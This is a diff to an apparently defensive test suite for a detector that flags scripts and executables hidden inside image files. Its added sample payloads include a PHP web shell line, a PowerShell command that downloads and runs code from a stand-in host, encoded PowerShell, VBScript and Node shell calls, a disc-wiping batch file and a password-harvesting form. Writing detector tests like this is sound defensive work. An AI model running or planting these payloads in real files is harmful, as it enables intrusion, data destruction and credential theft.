@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest'
 import { findHiddenContent, recogniseContent } from '../../functions/inspect/hidden-content.ts'
 import { makeSegment } from '../fixtures/documents/jpeg-encoder.ts'
 import { insertSegments, makeXmpSegment } from '../fixtures/documents/jpeg-segments.ts'
+import { testVirus } from '../fixtures/documents/other-formats.ts'
 import { addGainMap, addMotionPhoto, addSamsungTrailer } from '../fixtures/documents/phone-trailers.ts'
 import { insertBeforeEnd, insertBehindHeader, makeChunk } from '../fixtures/documents/png-writer.ts'
 import { seedRandom } from '../fixtures/documents/random.ts'
@@ -96,7 +97,20 @@ const payloads: readonly (readonly [string, Buffer])[] = [
   ['PHP that calls a function in a short tag', latin1('<? \r\nsystem ("id") ?>')],
   ['PHP that prints in a short tag', latin1('<? echo 1 ?>')],
   ['PHP for another script, as in Exif', latin1('/.*/e\0eval(base64_decode("aWQ="))')],
+  ['PHP in a short tag without a space', latin1('<?system($_GET[1]);?>')],
+  ['a page that leads elsewhere', latin1('<META HTTP-EQUIV="refresh" content="0;url=//a.example">')],
+  ['a page that asks for a password', latin1('<form action="//a.example"><input type=password>')],
   ['a batch file of Windows', latin1('@echo off\r\nformat c:\r\n')],
+  ['a batch file in capitals', latin1('@ECHO OFF\r\nformat c:\r\n')],
+  ['VBScript', latin1('Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"')],
+  ['JScript', latin1('new ActiveXObject("wscript.shell").Run("calc")')],
+  ['PowerShell', latin1('powershell.exe -nop -enc SQBFAFgA')],
+  ['PowerShell that fetches a program', latin1('IEX (New-Object Net.WebClient).DownloadString("http://a.example")')],
+  ['a script of Node', latin1('require("child_process").exec("id")')],
+  ['a shortcut to the web', latin1('[InternetShortcut]\r\nURL=file:///c:/windows/system32/calc.exe')],
+  ['a starter of Linux', latin1('[Desktop Entry]\nType=Application\nExec=id')],
+  ['an image of a disc', latin1('\x01CD001\x01\0')],
+  ['what scanners of viruses are tried with', latin1(testVirus)],
   ['a shortcut of Windows', Buffer.from('4c0000000114020000000000c00000000000004681000000', 'hex')],
   [
     'an old Word document',
@@ -203,6 +217,10 @@ describe('what is not hidden', () => {
     [
       'the mark of a tar without its checksum',
       Buffer.concat([photo, change(makeTar(), (copy) => copy.fill(0, 148, 156))]),
+    ],
+    [
+      'a word of PowerShell',
+      insertSegments(photo, [makeSegment(0xfe, latin1('resized with powershell, by an editor'))]),
     ],
     ['an ELF header without fields', Buffer.concat([photo, latin1('\x7fELF'), Buffer.alloc(64, 3)])],
   ])('%s', (_name, bytes) => {
